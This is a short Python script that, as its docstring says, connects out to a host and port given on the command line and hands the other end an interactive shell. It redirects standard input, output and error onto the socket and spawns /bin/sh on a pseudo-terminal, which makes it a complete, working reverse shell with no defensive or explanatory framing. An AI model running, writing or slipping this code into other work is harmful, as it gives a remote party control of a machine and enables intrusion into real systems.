"""Connects, then gives the other end a shell on a terminal: a script in a file, nothing on the command line."""

import os
import pty
import socket
import sys

connection = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for descriptor in (0, 1, 2):
    os.dup2(connection.fileno(), descriptor)
pty.spawn("/bin/sh")
